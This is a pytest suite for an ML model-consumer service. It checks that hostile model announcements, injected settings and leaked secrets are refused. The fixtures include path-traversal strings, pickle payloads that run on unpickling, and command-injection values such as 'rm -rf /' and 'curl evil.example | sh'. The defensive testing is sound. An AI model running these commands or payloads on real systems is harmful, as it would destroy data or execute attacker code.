"""Hostile input: announcements the consumer must refuse, settings start-up must refuse,
and secrets that must never show.

Complements tests/consumer/test_live_models.py (refusals at the loader) and
tests/kernel/test_artifacts.py (the loader on its own): here each hostile
`ModelPublished` goes through the model follower into an `IngestCore`, the way
`slaops consume` handles it, and the tenant keeps forecasting with its previous model.
Some announcements come from a store an attacker could write to, so every file they
name is planted for real.
"""

from __future__ import annotations

import dataclasses
import json
import logging
import os
import pathlib
import re
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest
import safetensors.torch
import torch

from consumer.core import IngestCore
from consumer.follower import AnswerFollower, AnswerTopics
from consumer.live_model import LiveModel
from consumer.settings import ConsumerSettings
from kernel import model_follower as kernel_follower
from kernel.artifacts import load_model, sha256_hex
from kernel.errors import ConfigError, ModelRefused
from kernel.kafka import base_config
from kernel.limits import MAX_ARTIFACT_BYTES
from kernel.model_follower import ModelAuthority
from kernel.settings import load_settings
from kernel.store import (
    ANY_PARENT,
    AnyParent,
    FileStore,
    ModelStore,
    PublishedFiles,
    TenantHead,
    model_paths,
    open_store,
)
from kernel.tenant_hash import tenant_hash
from retrainer.settings import RetrainerSettings
from schemas import ModelPublished
from slaops.cli import main
from testkit.live_models import KEY, core_with, messages
from testkit.pickles import SystemOnUnpickle, TouchOnUnpickle, torch_saved
from testkit.tiny_models import load_live_model

MODELS_TOPIC = "sla.models"
ACME = tenant_hash("acme", KEY)
GLOBEX = tenant_hash("globex", KEY)

# --- hostile model announcements --------------------------------------------------------


class SpyStore:
    """The consumer's store, recording every read and every listing it is asked for."""

    def __init__(self, inner: ModelStore) -> None:
        self.inner = inner
        self.uri = inner.uri
        self.reads: list[tuple[str, str]] = []
        self.listings = 0

    def read(self, path: str, *, revision: str, max_bytes: int = MAX_ARTIFACT_BYTES) -> bytes:
        self.reads.append((path, revision))
        return self.inner.read(path, revision=revision, max_bytes=max_bytes)

    def publish(
        self,
        tenant_hash: str,
        files: Mapping[str, bytes],
        *,
        message: str,
        parent: str | None | AnyParent = ANY_PARENT,
    ) -> PublishedFiles:
        return self.inner.publish(tenant_hash, files, message=message, parent=parent)

    def head(self, tenant_hash: str) -> TenantHead | None:
        self.listings += 1
        return self.inner.head(tenant_hash)

    def latest(self, tenant_hash: str) -> PublishedFiles | None:
        self.listings += 1
        return self.inner.latest(tenant_hash)

    def revision_messages(self, tenant_hash: str) -> list[str]:
        self.listings += 1
        return self.inner.revision_messages(tenant_hash)


@dataclass
class Scene:
    """A consumer whose store holds acme's legitimate v1, which it has already loaded."""

    store: FileStore
    spy: SpyStore
    legit: dict[str, bytes]  # kind -> bytes of the real model
    v1: ModelPublished
    follower: AnswerFollower
    core: IngestCore
    marker: pathlib.Path  # a pickle payload would create it
    limit: int  # MAX_ARTIFACT_BYTES during the test (the real one is 64 MiB)

    def plant(self, files: Mapping[str, bytes], **changes: Any) -> ModelPublished:
        """Commit `files` (kind -> bytes) as acme's next version and announce them faithfully."""
        landed = self.store.publish(ACME, files, message="planted")
        update = {
            "revision": landed.revision,
            "paths": landed.paths,
            "sha256": {kind: sha256_hex(data) for kind, data in files.items()},
            "model_version": 2,
        }
        return self.v1.model_copy(update={**update, **changes})

    def announce(self, event: ModelPublished) -> None:
        """The follower reads the record; the main loop applies its answers (as the service)."""
        self.follower.inner.handle(MODELS_TOPIC, event.model_dump_json().encode())
        for answer in self.follower.drain():
            if answer.model is not None:
                self.core.apply_model(answer.model)
            else:
                self.core.resolve(answer.tenant, answer.request_event_id)

    def publish_genuine(self) -> ModelPublished:
        """Publish the real model again as acme's next version; announce it faithfully."""
        return self.plant(self.legit, model_version=len(self.store.revision_messages(ACME)) + 1)

    def versions(self) -> int:
        return len(self.store.revision_messages(ACME))

    def forecast_revisions(self, start: int) -> set[str]:
        batch = messages(7, 150.0, 50, start=start)
        return {
            json.loads(value)["model_revision"] for _k, value in self.core.process(batch).forecasts
        }


@pytest.fixture
def scene(
    published: tuple[str, ModelStore, ModelPublished],
    tmp_path: pathlib.Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Scene]:
    _uri, source, event = published
    legit: dict[str, bytes] = {
        kind: source.read(path, revision=event.revision) for kind, path in event.paths.items()
    }
    uri = f"file://{tmp_path / 'store'}"
    store = open_store(uri)
    assert isinstance(store, FileStore)
    landed = store.publish(ACME, legit, message="v1")
    v1 = event.model_copy(update={"store_uri": uri, "revision": landed.revision})
    spy = SpyStore(store)
    follower = new_follower(spy, uri)
    limit = 2 * max(len(data) for data in legit.values())
    assert load_model.__kwdefaults__ is not None
    monkeypatch.setitem(load_model.__kwdefaults__, "max_bytes", limit)

    def no_unpickling(*args: object, **kwargs: object) -> None:
        raise AssertionError("the consumer called torch.load")

    monkeypatch.setattr(torch, "load", no_unpickling)
    scene = Scene(
        store,
        spy,
        legit,
        v1,
        follower,
        core_with(None, publish_forecasts=True),
        tmp_path / "pwned",
        limit,
    )
    scene.announce(v1)
    assert scene.follower.loaded == 1
    assert scene.forecast_revisions(0) == {v1.revision}
    spy.reads.clear()
    spy.listings = 0
    yield scene
    assert not scene.marker.exists(), "a pickle payload ran"


def new_follower(store: ModelStore, uri: str) -> AnswerFollower:
    return AnswerFollower(
        client_config={},  # never started: records are handed to it directly
        topics=AnswerTopics(
            models_topic=MODELS_TOPIC,
            failures_topic="sla.retrain.failures",
            decisions_topic="sla.retrain.decisions",
        ),
        authority=ModelAuthority(store, uri, KEY),
        min_lookup_interval_s=0.0,
    )


def edited_card(card: bytes, **changes: Any) -> bytes:
    return json.dumps({**json.loads(card), **changes}).encode()


def flipped(data: bytes) -> bytes:
    return data[:-1] + bytes([data[-1] ^ 1])


def evil_pt(scene: Scene, payload: type) -> bytes:
    """A torch.save archive whose unpickling runs `payload` (creates scene.marker)."""
    return torch_saved(payload(scene.marker))


# Each case: what the attacker announces (and plants), the refusal's reason, and whether
# the consumer may read the store at all before refusing.
Case = Callable[[Scene], ModelPublished]


def _paths(scene: Scene, **paths: str) -> ModelPublished:
    return scene.v1.model_copy(update={"paths": {**scene.v1.paths, **paths}, "model_version": 2})


def _absolute_path_to_the_real_file(scene: Scene) -> ModelPublished:
    real = scene.store.root / scene.v1.paths["safetensors"]
    assert real.is_file()
    return _paths(scene, safetensors=str(real))


def _pt_only(scene: Scene) -> ModelPublished:
    evil = evil_pt(scene, TouchOnUnpickle)
    card = edited_card(scene.legit["card"], files={"pt": sha256_hex(evil)})
    planted = scene.plant({"safetensors": b"", "pt": evil, "card": card})
    return planted.model_copy(
        update={
            "paths": {k: v for k, v in planted.paths.items() if k != "safetensors"},
            "sha256": {k: v for k, v in planted.sha256.items() if k != "safetensors"},
        }
    )


def _pickle_in_both_slots_card_names_pt_only(scene: Scene) -> ModelPublished:
    evil = evil_pt(scene, SystemOnUnpickle)
    card = edited_card(scene.legit["card"], files={"pt": sha256_hex(evil)})
    return scene.plant({"safetensors": evil, "pt": evil, "card": card})


def _pickle_as_safetensors_with_matching_hashes(scene: Scene) -> ModelPublished:
    evil = evil_pt(scene, TouchOnUnpickle)
    card = edited_card(
        scene.legit["card"], files={"safetensors": sha256_hex(evil), "pt": sha256_hex(evil)}
    )
    return scene.plant({"safetensors": evil, "pt": evil, "card": card})


def _weights_not_the_announced_ones(scene: Scene) -> ModelPublished:
    planted = scene.plant({**scene.legit, "safetensors": flipped(scene.legit["safetensors"])})
    return planted.model_copy(update={"sha256": scene.v1.sha256})


def _card_not_the_announced_one(scene: Scene) -> ModelPublished:
    always_breach = edited_card(scene.legit["card"], threshold=0.0)
    planted = scene.plant({**scene.legit, "card": always_breach})
    return planted.model_copy(update={"sha256": scene.v1.sha256})


def _weights_not_the_cards(scene: Scene) -> ModelPublished:
    # The announcement matches every file; the card's own hash of the weights does not.
    return scene.plant({**scene.legit, "safetensors": flipped(scene.legit["safetensors"])})


def _oversized_weights(scene: Scene) -> ModelPublished:
    big = b"\0" * (scene.limit + 1)
    card = edited_card(
        scene.legit["card"], files={"safetensors": sha256_hex(big), "pt": sha256_hex(big)}
    )
    return scene.plant({"safetensors": big, "pt": big, "card": card})


def _oversized_card(scene: Scene) -> ModelPublished:
    card = scene.legit["card"] + b" " * scene.limit  # still valid JSON
    return scene.plant({**scene.legit, "card": card})


CASES: dict[str, tuple[Case, str, bool]] = {
    "dotdot-path": (lambda s: _paths(s, safetensors="../../../etc/passwd"), "paths", False),
    "absolute-path": (lambda s: _paths(s, safetensors="/etc/passwd"), "paths", False),
    "escaping-model-dir": (lambda s: _paths(s, card="sla_models/../../x"), "paths", False),
    "dotdot-inside-model-dir": (
        lambda s: _paths(s, card=f"sla_models/../sla_models/{ACME}_sla_model.json"),
        "paths",
        False,
    ),
    "absolute-path-to-the-real-file": (_absolute_path_to_the_real_file, "paths", False),
    "another-tenants-hash-and-paths": (
        lambda s: s.v1.model_copy(
            update={"tenant_hash": GLOBEX, "paths": model_paths(GLOBEX), "model_version": 2}
        ),
        "tenant_hash is not this tenant's",
        False,
    ),
    "own-hash-another-tenants-paths": (
        lambda s: s.v1.model_copy(update={"paths": model_paths(GLOBEX), "model_version": 2}),
        "paths are not this tenant's",
        False,
    ),
    "another-tenant-claims-this-model": (
        lambda s: s.v1.model_copy(update={"tenant": "globex", "model_version": 2}),
        "tenant_hash is not this tenant's",
        False,
    ),
    "another-store": (
        lambda s: s.v1.model_copy(
            update={"store_uri": s.v1.store_uri + "/../elsewhere", "model_version": 2}
        ),
        "not ours",
        False,
    ),
    "revision-traversal": (
        lambda s: s.v1.model_copy(update={"revision": "../../../../etc", "model_version": 2}),
        "is not the store's newest",
        True,  # load_live_model reads the store's newest; the follower reads nothing
    ),
    "revision-not-in-the-store": (
        lambda s: s.v1.model_copy(update={"revision": "ab" * 20, "model_version": 2**62}),
        "is not the store's newest",
        True,
    ),
    "pt-only-announcement": (_pt_only, "paths", False),
    "pickle-in-both-slots-card-names-pt-only": (
        _pickle_in_both_slots_card_names_pt_only,
        "no sha256 for 'safetensors'",
        True,
    ),
    "pickle-as-safetensors-matching-hashes": (
        _pickle_as_safetensors_with_matching_hashes,
        "unreadable safetensors",
        True,
    ),
    "weights-not-the-announced-ones": (
        _weights_not_the_announced_ones,
        "weights do not match their announced sha256",
        True,
    ),
    "card-not-the-announced-one": (
        _card_not_the_announced_one,
        "card does not match its announced sha256",
        True,
    ),
    "weights-not-the-cards": (_weights_not_the_cards, "sha256 mismatch for safetensors", True),
    "oversized-weights": (
        _oversized_weights,
        r"weights is \d+ bytes, over the \d+-byte limit",
        True,
    ),
    "oversized-card": (_oversized_card, r"card is \d+ bytes, over the \d+-byte limit", True),
}


@pytest.mark.parametrize("name", list(CASES))
def test_a_hostile_announcement_is_refused_logged_and_the_tenant_keeps_its_model(
    scene: Scene, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    build, reason, may_read = CASES[name]
    hostile = build(scene)
    previous = {t: scene.core.model(t) for t in ("acme", hostile.tenant)}

    with pytest.raises(ModelRefused, match=reason):
        load_live_model(hostile, store=scene.spy, store_uri=scene.v1.store_uri, tenant_key=KEY)
    if not may_read:
        assert scene.spy.reads == [] and scene.spy.listings == 0, "refused after asking the store"
    scene.spy.reads.clear()

    with caplog.at_level(logging.WARNING, logger="kernel.model_follower"):
        scene.announce(hostile)
    assert scene.follower.refused == 1 and scene.follower.loaded == 1
    (record,) = [r for r in caplog.records if r.name == "kernel.model_follower"]
    assert record.levelno == logging.WARNING
    assert f"refused model tenant={hostile.tenant!r}" in record.getMessage()
    assert "keeping the previous one" in record.getMessage()
    assert re.search(reason, record.getMessage())
    if hostile.revision in (scene.v1.revision, "ab" * 20, "../../../../etc"):
        assert scene.spy.reads == [], "the store's newest is live: nothing to read"

    for tenant, model in previous.items():
        assert scene.core.model(tenant) is model
    assert scene.forecast_revisions(50) == {scene.v1.revision}

    # The refusal poisons nothing: the next genuine version still loads and takes over,
    # with the store's count of versions as its version.
    genuine = scene.publish_genuine()
    scene.announce(genuine)
    current = scene.core.model("acme")
    assert isinstance(current, LiveModel)
    assert (current.revision, current.version) == (genuine.revision, scene.versions())


def test_an_announcement_cannot_forge_log_lines(
    scene: Scene, caplog: pytest.LogCaptureFixture
) -> None:
    forged = "0" * 40 + "\n2030-01-01 INFO consumer.follower: loaded model tenant=acme version=9"
    hostile = scene.v1.model_copy(update={"revision": forged, "model_version": 2})
    with pytest.raises(ModelRefused) as refused:
        load_live_model(hostile, store=scene.spy, store_uri=scene.v1.store_uri, tenant_key=KEY)
    assert "\n" not in str(refused.value)
    with caplog.at_level(logging.WARNING, logger="kernel.model_follower"):
        scene.announce(hostile)
    (record,) = [r for r in caplog.records if r.name == "kernel.model_follower"]
    assert "\n" not in record.getMessage() and "refused model" in record.getMessage()
    current = scene.core.model("acme")
    assert isinstance(current, LiveModel) and current.version == 1


def test_safetensors_is_the_only_deserialiser_the_consumer_uses(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Control for the cases above: a genuine version loads with torch.load forbidden."""
    calls: list[int] = []
    real = safetensors.torch.load

    def counting(data: bytes) -> dict[str, torch.Tensor]:
        calls.append(len(data))
        return real(data)

    monkeypatch.setattr(safetensors.torch, "load", counting)
    scene.announce(scene.publish_genuine())
    assert calls == [len(scene.legit["safetensors"])]
    current = scene.core.model("acme")
    assert isinstance(current, LiveModel) and current.version == 2


def test_a_forged_old_revision_with_a_huge_version_neither_rolls_back_nor_pins(
    scene: Scene, caplog: pytest.LogCaptureFixture
) -> None:
    """Issue 11 item 1: the store, not the event, decides the revision and the version."""
    v2 = scene.publish_genuine()
    scene.announce(v2)
    assert scene.core.model("acme").revision == v2.revision  # type: ignore[union-attr]
    scene.spy.reads.clear()
    lookups = scene.follower.inner.lookups

    forged = scene.v1.model_copy(update={"model_version": 2**62})  # the OLD revision
    with caplog.at_level(logging.WARNING, logger="kernel.model_follower"):
        for _ in range(50):
            scene.announce(forged)
    live = scene.core.model("acme")
    assert isinstance(live, LiveModel) and (live.revision, live.version) == (v2.revision, 2)
    assert "is not the store's newest" in caplog.records[0].getMessage()
    assert scene.forecast_revisions(50) == {v2.revision}
    assert scene.spy.reads == [], "an old revision is never read"
    assert scene.follower.inner.lookups == lookups + 1, "a judged revision costs no lookup"

    v3 = scene.publish_genuine()  # later genuine versions still load
    scene.announce(v3)
    live = scene.core.model("acme")
    assert isinstance(live, LiveModel) and (live.revision, live.version) == (v3.revision, 3)

    # A restart: a fresh follower and core re-read the same records, the forged ones
    # last, and land on the store's newest; so does one that read only the forgery.
    for history in ([scene.v1, v2, v3, *[forged] * 5], [forged]):
        fresh = new_follower(scene.spy, scene.v1.store_uri)
        restarted = dataclasses.replace(
            scene, follower=fresh, core=core_with(None, publish_forecasts=True)
        )
        for event in history:
            restarted.announce(event)
        live = restarted.core.model("acme")
        assert isinstance(live, LiveModel) and (live.revision, live.version) == (v3.revision, 3)
        assert restarted.forecast_revisions(100) == {v3.revision}


def test_the_store_moving_back_is_not_followed(scene: Scene) -> None:
    """Never an older revision than the live one, even if the store's head is rewound."""
    v2 = scene.publish_genuine()
    scene.announce(v2)
    head = scene.store.root / ".revisions" / ACME / "HEAD"
    head.write_text(f"{scene.v1.revision}\n")  # a hostile store writer rewinds the head
    scene.announce(scene.v1.model_copy(update={"model_version": 2**62}))
    assert scene.follower.refused == 1
    assert scene.follower.inner.model("acme").revision == v2.revision  # type: ignore[union-attr]
    live = scene.core.model("acme")
    assert isinstance(live, LiveModel) and live.revision == v2.revision


def test_a_record_that_makes_the_loader_raise_unexpectedly_does_not_stop_the_follower(
    scene: Scene, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def explode(*args: object, **kwargs: object) -> None:
        raise RecursionError("a hostile store made the loader blow up")

    monkeypatch.setattr("kernel.model_authority.load_model", explode)
    with caplog.at_level(logging.ERROR, logger="kernel.model_follower"):
        scene.announce(scene.publish_genuine())  # would have killed the thread before
    assert scene.follower.inner.record_errors == 1
    assert "RecursionError" in scene.follower.health()["last_error"]
    assert any("failed" in r.getMessage() for r in caplog.records)
    live = scene.core.model("acme")
    assert isinstance(live, LiveModel) and live.revision == scene.v1.revision

    monkeypatch.undo()
    genuine = scene.publish_genuine()
    scene.announce(genuine)
    live = scene.core.model("acme")
    assert isinstance(live, LiveModel) and live.revision == genuine.revision


class _StuckReader:
    """A Kafka reader whose first failure is at start-up, then hangs in `consume`."""

    calls = 0

    def __init__(self, release: Any) -> None:
        self.release = release

    def list_topics(self, timeout: float) -> Any:
        _StuckReader.calls += 1
        if _StuckReader.calls == 1:
            raise MemoryError("a card that is an endless device")
        return type("Meta", (), {"topics": {}})()

    def assign(self, partitions: list[Any]) -> None:
        pass

    def consume(self, n: int, timeout: float) -> list[Any]:
        self.release.wait(30)
        return []

    def close(self) -> None:
        pass


def test_a_dead_or_stuck_follower_is_visible_and_restarted(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    import threading
    import time

    release = threading.Event()
    monkeypatch.setattr(kernel_follower, "make_reader", lambda *a, **k: _StuckReader(release))
    now = [0.0]
    follower = kernel_follower.ModelFollower(
        client_config={},
        models_topic=MODELS_TOPIC,
        authority=ModelAuthority(scene.spy, scene.v1.store_uri, KEY),
        options=kernel_follower.FollowerOptions(restart_s=0.01, stall_s=60.0, clock=lambda: now[0]),
    )
    try:
        follower.start()
        deadline = time.monotonic() + 10
        while follower.restarts < 1 and time.monotonic() < deadline:
            time.sleep(0.01)
        assert follower.restarts == 1 and follower.alive  # failed, logged, restarted
        assert "MemoryError" in follower.health()["last_error"]
        assert not follower.ensure_running()  # healthy: nothing to do
        now[0] = 61.0  # the thread hangs in consume: no progress for over stall_s
        assert follower.health()["stalled"]
        assert follower.ensure_running() and follower.restarts == 2
        assert follower.alive and not follower.health()["stalled"]
    finally:
        release.set()  # first: the stuck consume returns, so stop need not wait it out
        follower.stop()


# --- hostile settings ------------------------------------------------------------------

INJECTIONS = [
    "; rm -rf /",
    "sla.models; rm -rf /",
    "sla.models\nrm -rf /",
    "sla.models\n",
    "$(touch /tmp/slaops-pwned)",
    "`id`",
    "..",
    ".",
    "../sla.models",
    "sla models",
    "",
]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize(
    ("cls", "setting"),
    [
        (ConsumerSettings, "models_topic"),
        (ConsumerSettings, "telemetry_topic"),
        (RetrainerSettings, "retrain_topic"),
        (RetrainerSettings, "models_topic"),
    ],
)
def test_hostile_topic_names_are_refused_naming_the_setting(
    cls: type[ConsumerSettings] | type[RetrainerSettings], setting: str, value: str
) -> None:
    with pytest.raises(ConfigError) as refused:
        load_settings(cls, {setting: value})
    message = str(refused.value)
    env = f"SLAOPS_{setting.upper()}"
    assert f"{setting} ({env} or --{setting.replace('_', '-')})" in message
    assert "\n" not in message and (len(value) < 3 or value not in message)


def test_hostile_topic_names_from_the_environment_are_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SLAOPS_DLQ_TOPIC", "..")
    with pytest.raises(ConfigError, match=r"dlq_topic \(SLAOPS_DLQ_TOPIC or --dlq-topic\)"):
        load_settings(ConsumerSettings, {})


HOSTILE_STORES = [
    ("file:///tmp/models; rm -rf /", "forbidden character"),
    ("file:///tmp/models\nrm -rf /", "forbidden character"),
    ("file:///tmp/$(touch /tmp/slaops-pwned)", "forbidden character"),
    ("file:///tmp/`id`", "forbidden character"),
    ("file:///tmp/../etc", "'..'"),
    ("file://..", "'..'"),
    ("hf://owner/..", "OWNER/REPO"),
    ("hf://../../etc/passwd", "OWNER/REPO"),
    ("hf://owner/repo/../../x", "OWNER/REPO"),
    ("hf://owner/repo;rm -rf /", "forbidden character"),
]


@pytest.fixture
def start_up_env(monkeypatch: pytest.MonkeyPatch, tmp_path: pathlib.Path) -> None:
    """Nothing set but a broker nobody listens on: refusals happen before connecting."""
    for name in list(os.environ):
        if name.startswith(("SLAOPS_", "HF_")):
            monkeypatch.delenv(name)
    monkeypatch.setenv("KAFKA_BOOTSTRAP_SERVERS", "127.0.0.1:1")
    monkeypatch.setenv("SLAOPS_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)


@pytest.mark.usefixtures("start_up_env")
@pytest.mark.parametrize("command", ["consume", "retrain"])
@pytest.mark.parametrize(("uri", "reason"), HOSTILE_STORES)
def test_hostile_store_uris_are_refused_at_start_up(
    command: str, uri: str, reason: str, capsys: pytest.CaptureFixture[str], tmp_path: pathlib.Path
) -> None:
    assert main([command, "--store", uri, "--tenant-key", "k7Q2x9Lm" * 4]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"slaops {command}: store (SLAOPS_STORE or --store): "), err
    assert reason in err and "rm -rf" not in err and err.count("\n") == 1
    assert not pathlib.Path("/tmp/slaops-pwned").exists()  # noqa: S108 (what the URI tried)
    assert list(tmp_path.iterdir()) == []  # no directory created, no key generated


@pytest.mark.usefixtures("start_up_env")
def test_a_hostile_store_uri_from_the_environment_is_refused(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SLAOPS_STORE", "file:///srv/models\n; curl evil.example | sh")
    monkeypatch.setenv("SLAOPS_TENANT_KEY", "k7Q2x9Lm" * 4)
    assert main(["consume"]) == 2
    err = capsys.readouterr().err
    assert "store (SLAOPS_STORE or --store): " in err and "curl" not in err


@pytest.mark.usefixtures("start_up_env")
@pytest.mark.parametrize("command", ["consume", "retrain"])
@pytest.mark.parametrize(
    ("key", "reason"),
    [
        (None, "no tenant key: set SLAOPS_TENANT_KEY"),
        ("", "tenant_key (SLAOPS_TENANT_KEY): use at least 16 characters"),
        ("short", "tenant_key (SLAOPS_TENANT_KEY): use at least 16 characters"),
    ],
)
def test_a_missing_tenant_key_stops_start_up_outside_local_mode(
    command: str,
    key: str | None,
    reason: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: pathlib.Path,
) -> None:
    if key is not None:
        monkeypatch.setenv("SLAOPS_TENANT_KEY", key)
    assert main([command, "--store", f"file://{tmp_path / 'models'}"]) == 2
    assert reason in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []  # in particular no generated tenant.key


TOKEN = "hf_TOKENzz9Secret8Value7"  # noqa: S105 (fakes, to look for in output)
TENANT_KEY = "tenantKEYzz9Secret8Value7"
SASL_PASSWORD = "saslPASSWORDzz9Secret8Value7"  # noqa: S105
SECRETS = (TOKEN, TENANT_KEY, SASL_PASSWORD)


@pytest.mark.usefixtures("start_up_env")
@pytest.mark.parametrize("command", ["consume", "retrain"])
@pytest.mark.parametrize(
    "uri",
    [
        f"hf://user:{TOKEN}@owner/repo",
        f"hf://{TOKEN}@owner/repo",
        f"hf://owner/repo@{TOKEN}",
        f"file://user:{TOKEN}@/srv/models",
    ],
)
def test_a_token_in_the_store_uri_is_refused_without_echoing_it(
    command: str, uri: str, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG):
        assert main([command, "--store", uri, "--tenant-key", "k7Q2x9Lm" * 4]) == 2
    out, err = capsys.readouterr()
    assert "store (SLAOPS_STORE or --store): " in err and "must not embed credentials" in err
    assert TOKEN not in out + err + caplog.text


def secret_env() -> dict[str, str]:
    return {
        "KAFKA_BOOTSTRAP_SERVERS": "127.0.0.1:1",
        "HF_TOKEN": TOKEN,
        "SLAOPS_TENANT_KEY": TENANT_KEY,
        "SLAOPS_KAFKA_PROPERTIES": json.dumps(
            {
                "security.protocol": "SASL_SSL",
                "sasl.mechanism": "SCRAM-SHA-512",
                "sasl.username": "slaops",
                "sasl.password": SASL_PASSWORD,
            }
        ),
        "SLAOPS_LOG_LEVEL": "DEBUG",
    }


@pytest.mark.usefixtures("start_up_env")
@pytest.mark.parametrize("command", ["consume", "retrain"])
def test_secrets_stay_out_of_the_logs_of_a_successful_start_up(
    command: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    for name, value in secret_env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("SLAOPS_STORE", "hf://owner/repo")
    seen: list[Any] = []

    class Service:  # stands in for the Kafka clients: the start-up runs up to the loop
        def run(self, stop: object) -> str:
            return "valid=0"

    def build_service(settings: Any, parts: Any) -> Service:
        seen.append(settings)
        return Service()

    module = "consumer.main" if command == "consume" else "retrainer.main"
    monkeypatch.setattr("slaops.runner.ensure_topics", lambda settings, specs: None)
    monkeypatch.setattr("slaops.runner.wait_for_broker", lambda s: s.bootstrap_servers)
    monkeypatch.setattr(f"{module}.build_service", build_service)
    with caplog.at_level(logging.DEBUG):
        assert main([command]) == 0
    (settings,) = seen
    # The values did reach the settings and the Kafka client configuration ...
    assert settings.hf_token.get_secret_value() == TOKEN
    assert settings.tenant_secret().get_secret_value() == TENANT_KEY
    assert base_config(settings)["sasl.password"] == SASL_PASSWORD
    # ... and nowhere else.
    out, err = capsys.readouterr()
    shown = out + err + caplog.text + repr(settings) + str(settings) + settings.model_dump_json()
    assert "stopped: valid=0" in caplog.text
    for secret in SECRETS:
        assert secret not in shown


def run_cli(*argv: str, **env: str) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("SLAOPS_", "HF_"))}
    return subprocess.run(
        [sys.executable, "-m", "slaops.cli", *argv],
        capture_output=True,
        text=True,
        timeout=60,
        env={**clean, **secret_env(), **env},
    )


def test_a_refused_start_up_shows_no_secret() -> None:
    """The real CLI, every secret set, the token also pasted into the store URI."""
    result = run_cli("consume", SLAOPS_STORE=f"hf://user:{TOKEN}@owner/repo")
    assert result.returncode == 2, result.stderr
    assert "slaops consume: store (SLAOPS_STORE or --store): " in result.stderr
    assert "must not embed credentials" in result.stderr
    for secret in SECRETS:
        assert secret not in result.stdout + result.stderr


def test_unparsable_json_settings_are_refused_naming_the_setting_without_the_value() -> None:
    """A broken SLAOPS_KAFKA_PROPERTIES is a clear start-up error, not a traceback."""
    broken = json.dumps({"sasl.password": SASL_PASSWORD})[:-1]  # the closing brace lost
    result = run_cli("retrain", SLAOPS_KAFKA_PROPERTIES=broken, SLAOPS_STORE="hf://owner/repo")
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(
        "slaops retrain: invalid settings: kafka_properties "
        "(SLAOPS_KAFKA_PROPERTIES or --kafka-properties): not valid JSON"
    ), result.stderr
    assert "Traceback" not in result.stderr
    for secret in SECRETS:
        assert secret not in result.stdout + result.stderr


def test_unparsable_json_settings_in_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SLAOPS_DETECTOR_PARAMS", "{delta: 0.01")
    with pytest.raises(ConfigError, match=r"detector_params \(SLAOPS_DETECTOR_PARAMS or"):
        load_settings(ConsumerSettings, {})


@pytest.mark.usefixtures("start_up_env")
def test_hub_endpoint_with_credentials_is_refused_without_echoing_them(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("HF_ENDPOINT", f"https://user:{TOKEN}@hub.example")
    assert main(["retrain", "--store", "hf://owner/repo", "--tenant-key", "k7Q2x9Lm" * 4]) == 2
    err = capsys.readouterr().err
    assert "hub endpoint must be an http(s) URL without credentials" in err
    assert TOKEN not in err


def test_settings_errors_never_carry_secret_inputs() -> None:
    """Refusals of settings that hold secrets say what is wrong, never the value."""
    cases: list[dict[str, Any]] = [
        {"kafka_properties": {"sasl.password": SASL_PASSWORD, "acks": "all"}},
        {"kafka_properties": {"sasl.password": SASL_PASSWORD, "Bad Key": "x"}},
        {"kafka_properties": {"sasl.password": [SASL_PASSWORD]}},
        {"hf_token": [TOKEN], "tenant_key": {"k": TENANT_KEY}},
    ]
    for overrides in cases:
        with pytest.raises(ConfigError) as refused:
            load_settings(ConsumerSettings, overrides)
        for secret in SECRETS:
            assert secret not in str(refused.value)
